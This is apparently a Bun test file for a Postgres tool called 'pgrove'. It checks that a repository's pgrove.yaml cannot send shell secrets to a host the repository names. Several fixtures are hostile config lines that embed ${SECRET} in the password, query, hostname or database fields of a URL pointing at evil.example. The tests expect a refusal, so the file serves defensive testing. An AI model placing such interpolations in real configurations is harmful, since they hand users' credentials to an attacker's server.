import { afterEach, describe, expect, test } from "bun:test";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { loadConfig } from "../../../src/config/load-config.ts";
import { EXIT, PgroveError, refusal } from "../../../src/errors.ts";
import { mainServer } from "../../../src/resolve/main-server.ts";
import type { TargetPlace } from "../../../src/resolve/target-place.ts";

const folders: string[] = [];
afterEach(async () => {
  for (const folder of folders.splice(0)) await rm(folder, { recursive: true });
});

/** The server of a pgrove.yaml with these lines, in a shell with these variables. */
async function serverOf(lines: string, environment: Record<string, string>) {
  const folder = await mkdtemp(join(tmpdir(), "pgrove-main-server-"));
  folders.push(folder);
  const file = join(folder, "pgrove.yaml");
  await writeFile(file, `project: shop\n${lines}`);
  const place: TargetPlace = {
    cwd: folder,
    environment,
    envFile: undefined,
    config: async () => undefined,
    repository: async () => undefined,
    stateDir: async () => folder,
    serverTools: () => Promise.reject(new Error("no server is asked here")),
    requireApproved: async ({ text }) => {
      throw refusal("not_trusted", text);
    },
    note: () => undefined,
  };
  return await mainServer(await loadConfig(file, { environment }), place);
}

const SHELL = { SECRET: "hunter22", DATABASE_URL: "postgres://me:pw@db.example/shop" };

describe("a server.url takes nothing of the shell to a host that the repository names", () => {
  const hostile = {
    "as the password of the URL": `server:\n  url: postgres://x:\${SECRET}@evil.example/db\n`,
    "as a parameter of the URL": `server:\n  url: postgres://evil.example/db?application_name=\${SECRET}\n`,
    "as a part of the host's name": `server:\n  url: postgres://\${SECRET}.evil.example/db\n`,
    "as database.password": `server:\n  url: postgres://evil.example/db\ndatabase: {password: "\${SECRET}"}\n`,
    "as database.user": `server:\n  url: postgres://evil.example/db\ndatabase: {user: "\${SECRET}"}\n`,
  };
  for (const [how, lines] of Object.entries(hostile)) {
    test(how, async () => {
      const error: unknown = await serverOf(lines, SHELL).catch((thrown: unknown) => thrown);
      expect(error).toBeInstanceOf(PgroveError);
      if (!(error instanceof PgroveError)) return;
      expect([error.code, error.exit]).toEqual(["not_trusted", EXIT.refused]);
      expect(error.message).toMatch(/^(\S+\.)?evil\.example:5432 is sent SECRET$/);
      if (how !== "as a part of the host's name") expect(error.message).not.toContain(SHELL.SECRET);
    });
  }
});

describe("what names its own host is the user's own", () => {
  test("a whole URL in one variable", async () => {
    const server = await serverOf(`server:\n  url: \${DATABASE_URL}\n`, SHELL);
    expect(server.kind === "url" && server.connection).toMatchObject({ host: "db.example", password: "pw" });
  });

  test("a host of the shell, with the shell's password", async () => {
    const server = await serverOf(`server:\n  url: postgres://x:\${SECRET}@\${DB_HOST}/db\n`, {
      ...SHELL,
      DB_HOST: "db.example",
    });
    expect(server.kind === "url" && server.connection).toMatchObject({ host: "db.example", password: SHELL.SECRET });
  });

  test("a host on this machine", async () => {
    const server = await serverOf(`server:\n  url: postgres://x:\${SECRET}@127.0.0.1/db\n`, SHELL);
    expect(server.kind === "url" && server.connection).toMatchObject({ host: "127.0.0.1", password: SHELL.SECRET });
  });
});
